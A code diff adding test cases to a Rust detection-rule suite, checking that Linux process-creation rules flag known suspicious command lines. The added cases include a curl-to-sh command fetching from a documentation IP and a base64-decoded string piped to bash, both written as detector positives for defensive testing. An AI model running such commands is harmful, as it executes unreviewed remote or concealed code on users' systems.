@@ -136,6 +136,17 @@ fn community_process_creation_rules_match_known_positives() {
             &["payload"],
             "proc_creation_lnx_susp_execution_tmp_folder.yml",
         ),
+        // `CommandLine|endswith: '| sh'`: argv joined by plain spaces, as the rules expect.
+        (
+            "/usr/bin/dash",
+            &["sh", "-c", "curl -s http://203.0.113.7/i | sh"],
+            "proc_creation_lnx_susp_pipe_shell.yml",
+        ),
+        (
+            "/usr/bin/bash",
+            &["bash", "-c", "echo aWQK | base64 -d | bash"],
+            "proc_creation_lnx_base64_execution.yml",
+        ),
     ];
     for (exe, argv, rule) in cases {
         let hits = set.evaluate(&creation(exe, argv));
